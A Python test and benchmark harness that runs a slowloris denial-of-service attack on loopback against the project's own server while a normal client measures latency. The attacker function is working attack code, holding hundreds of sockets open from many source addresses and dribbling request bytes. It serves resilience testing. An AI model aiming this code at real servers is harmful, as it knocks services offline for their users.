"""A slowloris attack on a clara-server, with a normal client measured meanwhile. Used by
tests/e2e/test_server_http.py (a short run) and bench/slowloris.sh (the full run); loopback only.

The attacker keeps `conns` sockets open, spread over `sources` loopback source addresses
(127.0.0.2, 127.0.0.3, ...), each sending one more byte of an endless request head every `period`
seconds, and reopens any socket the server closes (at most 200 reopens a second). The normal
client, from 127.0.0.1, sends one GET /health and one small POST /compress every second and
records each latency and status. Everything stops after `seconds`."""

import http.client
import json
import socket
import sys
import threading
import time


def _attacker(port, conns, sources, period, seconds, stats, stop):
    socks = {}  # slot -> (socket, next send time)
    end = time.time() + seconds
    head = b"POST /compress HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
    pos = {}
    budget_t, budget = time.time(), 200
    while time.time() < end and not stop.is_set():
        now = time.time()
        if now - budget_t >= 1:
            budget_t, budget = now, 200
        for slot in range(conns):
            if slot not in socks and budget > 0:
                budget -= 1
                src = "127.0.0.%d" % (2 + slot % sources)
                try:
                    s = socket.create_connection(("127.0.0.1", port), timeout=2,
                                                 source_address=(src, 0))
                    s.setblocking(False)
                    socks[slot] = (s, now + (slot % 50) * period / 50)
                    pos[slot] = 0
                    stats["opened"] += 1
                except OSError:
                    stats["connect_failed"] += 1
        for slot, (s, due) in list(socks.items()):
            if due > now:
                continue
            try:
                # readable: answered (408/429/503) or closed; count it and reopen later
                stats["answers"] += bool(s.recv(4096))
                stats["closed"] += 1
                s.close()
                del socks[slot]
                continue
            except BlockingIOError:
                pass
            except OSError:
                stats["closed"] += 1
                s.close()
                del socks[slot]
                continue
            i = pos[slot]
            byte = head[i:i + 1] if i < len(head) else b"X-Pad: x\r\n"[i % 10:i % 10 + 1]
            try:
                s.send(byte)
                pos[slot] += 1
                socks[slot] = (s, now + period)
            except OSError:
                stats["closed"] += 1
                s.close()
                del socks[slot]
        stats["max_open"] = max(stats["max_open"], len(socks))
        time.sleep(0.05)
    for s, _ in socks.values():
        s.close()


def _normal_client(port, seconds, lat, stop):
    body = json.dumps({"memories": ["The sky is blue."], "query": "What colour is the sky?",
                       "max_new_tokens": 4})
    end = time.time() + seconds
    while time.time() < end and not stop.is_set():
        t_next = time.time() + 1
        for method, path, b in (("GET", "/health", None), ("POST", "/compress", body)):
            t0 = time.time()
            try:
                c = http.client.HTTPConnection("127.0.0.1", port, timeout=10,
                                               source_address=("127.0.0.1", 0))
                c.request(method, path, body=b,
                          headers={"Content-Type": "application/json"} if b else {})
                r = c.getresponse()
                r.read()
                st = r.status
                c.close()
            except OSError as e:
                st = repr(e)
            lat.append((path, st, time.time() - t0))
        time.sleep(max(0, t_next - time.time()))


def run(port, conns=600, sources=20, period=5.0, seconds=60.0):
    stats = {"opened": 0, "closed": 0, "answers": 0, "connect_failed": 0, "max_open": 0}
    lat = []
    stop = threading.Event()
    a = threading.Thread(target=_attacker, args=(port, conns, sources, period, seconds, stats, stop))
    n = threading.Thread(target=_normal_client, args=(port, seconds, lat, stop))
    a.start()
    time.sleep(min(3.0, seconds / 4))  # let the attack build up first
    n.start()
    n.join()
    stop.set()
    a.join()
    times = sorted(t for _, _, t in lat)
    ok = [x for x in lat if x[1] == 200]
    p99 = times[min(len(times) - 1, int(len(times) * 0.99))] if times else None
    return {"requests": len(lat), "ok": len(ok), "p50_s": times[len(times) // 2] if times else None,
            "p99_s": p99, "max_s": times[-1] if times else None,
            "failed": [x for x in lat if x[1] != 200][:5], "attack": stats}


if __name__ == "__main__":
    port = int(sys.argv[1])
    kw = {}
    for a in sys.argv[2:]:
        k, v = a.split("=")
        kw[k] = float(v) if k in ("period", "seconds") else int(v)
    print(json.dumps(run(port, **kw), indent=1))
